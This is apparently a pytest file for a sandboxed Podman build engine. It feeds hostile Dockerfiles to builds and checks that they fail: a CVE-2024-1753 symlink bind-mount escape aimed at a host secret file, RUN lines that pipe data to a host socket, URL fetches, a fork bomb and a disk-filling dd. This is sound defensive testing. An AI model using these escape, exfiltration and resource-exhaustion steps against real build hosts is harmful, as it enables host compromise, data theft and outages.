"""Hostile Dockerfiles against the sandboxed build, with real Podman (issue 17.1, 13.1).

Every build runs in a throwaway builder container; these tests show what a miner's ``RUN`` step
can no longer do: read or write the host's files (CVE-2024-1753), reach a host service on
127.0.0.1 (or through a bridge gateway with ``build_network = "egress"``), fetch from the
network, fork without bound, or keep running after the build's deadline. Traffic goes only to a
listener the test opens on the host; nothing else is addressed.
"""

from __future__ import annotations

import asyncio
import os
import secrets
import socket
import time
from collections.abc import AsyncIterator, Iterator
from pathlib import Path

import pytest
from containers.podman import ROOT, engine_url
from test_sandbox_contract import _podman_json

from soundsright_async.sandbox.engine import (
    BridgeFirewall,
    BuildFailed,
    BuildLimits,
    BuildRequest,
    DockerEngine,
    project_labels,
)

pytestmark = pytest.mark.slow

OWNER = f"build-{os.getpid()}"
BASE = "localhost/soundsright-base:latest"
PREFIX = "srbb"


def _engine(**kw: object) -> DockerEngine:
    return DockerEngine(
        url=engine_url(),
        owner=OWNER,
        bridge_prefix=PREFIX,
        build_limits=BuildLimits(memory_bytes=1024**3, disk_bytes=3 * 1024**3, pids=128),
        **kw,  # type: ignore[arg-type]
    )


@pytest.fixture
async def engine() -> AsyncIterator[DockerEngine]:
    async with _engine() as eng:
        yield eng
        await eng.sweep()


@pytest.fixture
def listener() -> Iterator[socket.socket]:
    """A TCP listener on the host (all addresses, so a bridge gateway would reach it too)."""
    sock = socket.socket()
    sock.setsockopt(socket.SOL_SOCKET, socket.SO_REUSEADDR, 1)
    sock.bind(("0.0.0.0", 0))
    sock.listen(8)
    sock.setblocking(False)
    yield sock
    sock.close()


def _nothing_arrived(sock: socket.socket) -> None:
    with pytest.raises(BlockingIOError):
        sock.accept()


def _context(tmp: Path, dockerfile: str, **files: str) -> Path:
    ctx = tmp / f"ctx-{secrets.token_hex(3)}"
    ctx.mkdir()
    (ctx / "Dockerfile").write_text(dockerfile)
    for name, text in files.items():
        (ctx / name).write_text(text)
    return ctx


def _request(ctx: Path, timeout_s: float = 300.0) -> BuildRequest:
    tag = f"localhost/soundsright-model:build-{secrets.token_hex(4)}"
    return BuildRequest(ctx, tag, project_labels(OWNER), timeout_s)


async def _build(engine: DockerEngine, ctx: Path, timeout_s: float = 300.0) -> tuple[bool, str]:
    """(built?, log): a hostile build may fail or succeed; what it reached is what counts."""
    try:
        built = await engine.build(_request(ctx, timeout_s))
    except BuildFailed as exc:
        return False, exc.log + exc.detail
    return True, built.log


def _leftovers() -> list[str]:
    owned = f"label=soundsright.owner={OWNER}"
    found = [f"container {c['Id']}" for c in _podman_json("ps", "-a", "--filter", owned)]
    found += [
        f"network {n['name']}"
        for n in _podman_json("network", "ls")
        if (n.get("labels") or {}).get("soundsright.owner") == OWNER  # type: ignore[union-attr]
    ]
    return found


def _send(port: int, what: str, host: str = "127.0.0.1") -> str:
    """A RUN line that sends ``what``'s output to ``host:port`` (and says if it could)."""
    return (
        f"{what} | python3 -c \"import socket,sys; s=socket.create_connection(('{host}',{port}),3);"
        f" s.sendall(sys.stdin.buffer.read()); print('SENT-{host}')\" || echo NOT-SENT-{host}"
    )


@pytest.fixture
def marker() -> Iterator[tuple[Path, str]]:
    """A secret file in the host's /tmp."""
    secret = f"host-secret-{secrets.token_hex(8)}"
    path = Path(f"/tmp/sr-marker-{secrets.token_hex(6)}")
    path.write_text(secret)
    yield path, secret
    path.unlink()


async def test_cve_2024_1753_symlink_stage_sees_only_the_builder(
    engine: DockerEngine, tmp_path: Path, listener: socket.socket, marker: tuple[Path, str]
) -> None:
    marker_path, secret = marker
    port = listener.getsockname()[1]
    dockerfile = (
        f"FROM {BASE} AS s1\nRUN ln -s / /rootlink\n"
        f"FROM {BASE}\n"
        "RUN --mount=type=bind,from=s1,source=/rootlink,target=/mnt,rw "
        f"ls /mnt; echo overwritten > /mnt{marker_path} || true; "
        + _send(port, f"cat /mnt{marker_path}")
        + "\n"
    )
    built, log = await _build(engine, _context(tmp_path, dockerfile))
    # the exploit ran: /mnt is a root filesystem, the builder's (its /in and /images) ...
    assert "images" in log, log
    assert "NOT-SENT-127.0.0.1" in log.splitlines(), log
    # ... not the host's: the marker is neither read, nor sent, nor changed
    assert secret not in log
    assert marker_path.read_text() == secret
    _nothing_arrived(listener)
    assert _leftovers() == []
    # the stage image existed only in the builder: only the final image is on the engine
    owned = _podman_json("images", "-a", "--filter", f"label=soundsright.owner={OWNER}")
    assert len(owned) == (1 if built else 0), owned


async def test_run_step_has_no_network_and_no_host_privilege(
    engine: DockerEngine, tmp_path: Path, listener: socket.socket
) -> None:
    port = listener.getsockname()[1]
    dockerfile = (
        f"FROM {BASE}\n"
        "RUN cat /proc/self/uid_map; grep CapEff /proc/self/status; ls /sys/class/net; "
        + _send(port, "echo from-the-build")
        + "\n"
    )
    built, log = await _build(engine, _context(tmp_path, dockerfile))
    assert built, log
    assert "NOT-SENT-127.0.0.1" in log.splitlines(), log
    uid_map = next(ln.split() for ln in log.splitlines() if ln.strip().startswith("0 "))
    assert uid_map[1] != "0", f"root in the build is host root: {uid_map}"
    # only the loopback interface: no network at all
    nets = [ln for ln in log.splitlines() if ln.strip() in {"lo", "eth0", "tap0"}]
    assert nets == ["lo"], log
    _nothing_arrived(listener)


@pytest.mark.parametrize(
    ("line", "why"),
    [
        ("ADD http://127.0.0.1:{port}/x /x", "from a URL"),
        ("FROM 127.0.0.1:{port}/evil:latest", "not an allowed image"),
        ("COPY --from=docker.io/library/busybox /bin/sh /sh", "not an allowed image"),
    ],
)
async def test_fetches_are_refused_before_building(
    engine: DockerEngine, tmp_path: Path, listener: socket.socket, line: str, why: str
) -> None:
    port = listener.getsockname()[1]
    step = line.format(port=port)
    dockerfile = step + "\n" if step.startswith("FROM") else f"FROM {BASE}\n{step}\n"
    t0 = time.monotonic()
    with pytest.raises(BuildFailed) as failed:
        await engine.build(_request(_context(tmp_path, dockerfile)))
    assert failed.value.reason == "build_refused"
    assert why in failed.value.detail
    assert failed.value.detail.startswith("Dockerfile line")
    assert time.monotonic() - t0 < 5  # refused up front, no builder started
    _nothing_arrived(listener)
    assert _leftovers() == []


async def test_fork_bomb_is_held_by_the_pids_limit(engine: DockerEngine, tmp_path: Path) -> None:
    fork = (
        "import os, time\nn = 0\nfor _ in range(2000):\n    try:\n        pid = os.fork()\n"
        "    except OSError:\n        break\n    if pid == 0:\n        time.sleep(20)\n"
        "        os._exit(0)\n    n += 1\nprint('FORKED', n, flush=True)\n"
    )
    ctx = _context(
        tmp_path, f"FROM {BASE}\nCOPY fork.py /fork.py\nRUN python3 /fork.py\n", **{"fork.py": fork}
    )
    t0 = time.monotonic()
    _, log = await _build(engine, ctx, timeout_s=240)
    forked = [int(ln.split()[1]) for ln in log.splitlines() if ln.startswith("FORKED ")]
    assert forked, log
    assert forked[0] < 128, log  # BuildLimits(pids=128) in _engine()
    assert time.monotonic() - t0 < 240
    assert _leftovers() == []


async def test_disk_is_bounded_by_the_builder_storage(engine: DockerEngine, tmp_path: Path) -> None:
    # 5 GiB written into a build whose storage is 3 GiB (BuildLimits in _engine())
    step = "RUN dd if=/dev/zero of=/big bs=1M count=5120 && echo WROTE-ALL"
    built, log = await _build(engine, _context(tmp_path, f"FROM {BASE}\n{step}\n"))
    assert not built
    assert "No space left on device" in log, log
    assert "WROTE-ALL" not in log.splitlines()
    assert _leftovers() == []


def _processes_with(marker: str) -> list[int]:
    found = []
    for entry in os.listdir("/proc"):
        if not entry.isdigit() or int(entry) == os.getpid():
            continue
        try:
            cmdline = Path(f"/proc/{entry}/cmdline").read_bytes()
        except OSError:
            continue
        if marker.encode() in cmdline:
            found.append(int(entry))
    return found


async def test_busy_loop_past_the_deadline_is_killed(engine: DockerEngine, tmp_path: Path) -> None:
    marker = f"sr-busy-{secrets.token_hex(6)}"
    ctx = _context(tmp_path, f"FROM {BASE}\nRUN : {marker}; while :; do :; done\n")
    deadline_s = 45.0

    async def watch() -> float:
        while not _processes_with(marker):  # noqa: ASYNC110 (polling /proc, no event to wait on)
            await asyncio.sleep(0.2)
        return time.monotonic()

    watcher = asyncio.create_task(watch())
    t0 = time.monotonic()
    with pytest.raises(BuildFailed) as failed:
        await engine.build(_request(ctx, timeout_s=deadline_s))
    failed_at = time.monotonic()
    assert failed.value.reason == "build_timeout"
    assert failed_at - t0 < deadline_s + 10
    assert watcher.done(), "the busy loop never started inside the deadline"
    # the build's processes are gone within seconds of the deadline
    while _processes_with(marker):
        assert time.monotonic() - failed_at < 5, _processes_with(marker)
        await asyncio.sleep(0.1)
    kill_latency = time.monotonic() - failed_at
    print(
        f"build failed {failed_at - t0 - deadline_s:.2f} s after its deadline; "
        f"processes gone {kill_latency:.2f} s later"
    )
    assert _leftovers() == []
    # and the engine still builds the next model
    built = await engine.build(_request(ROOT / "examples/models/passthrough"))
    assert built.image_id


async def test_cancelled_build_leaves_no_process(engine: DockerEngine, tmp_path: Path) -> None:
    marker = f"sr-cancel-{secrets.token_hex(6)}"
    ctx = _context(tmp_path, f"FROM {BASE}\nRUN : {marker}; sleep 3600\n")
    task = asyncio.create_task(engine.build(_request(ctx)))
    deadline = time.monotonic() + 120
    while not _processes_with(marker):
        assert time.monotonic() < deadline
        assert not task.done()
        await asyncio.sleep(0.2)
    task.cancel()
    with pytest.raises(asyncio.CancelledError):
        await task
    t0 = time.monotonic()
    while _processes_with(marker):
        assert time.monotonic() - t0 < 5
        await asyncio.sleep(0.1)
    assert _leftovers() == []


async def test_egress_build_cannot_reach_the_host(tmp_path: Path, listener: socket.socket) -> None:
    if os.geteuid() != 0:
        pytest.skip("the firewall rule pair needs root (CI runs as root)")
    port = listener.getsockname()[1]
    gateway = (
        '$(python3 -c "import socket,struct;'
        "f=[l.split() for l in open('/proc/net/route') if l.split()[1]=='00000000'][0];"
        "print(socket.inet_ntoa(struct.pack('<L',int(f[2],16))))\")"
    )
    dockerfile = (
        f"FROM {BASE}\nRUN ls /sys/class/net; "
        + _send(port, "echo via-loopback")
        + "; GW="
        + gateway
        + "; echo gateway=$GW; "
        + _send(port, "echo via-gateway", host="$GW")
        + "\n"
    )
    eng = _engine(build_network="egress", firewall=BridgeFirewall(PREFIX))
    async with eng:
        _, log = await _build(eng, _context(tmp_path, dockerfile), timeout_s=240)
        await eng.sweep()
    # it had a network with a route out ...
    assert "gateway=" in log, log
    assert "eth0" in log, log
    # ... and reached neither the host's loopback nor the host through the gateway
    lines = [ln.strip() for ln in log.splitlines()]
    assert "NOT-SENT-127.0.0.1" in lines, log
    assert [ln for ln in lines if ln.startswith("NOT-SENT-") and "127.0.0.1" not in ln], log
    assert not [ln for ln in lines if ln.startswith("SENT-")], log
    _nothing_arrived(listener)
    assert _leftovers() == []
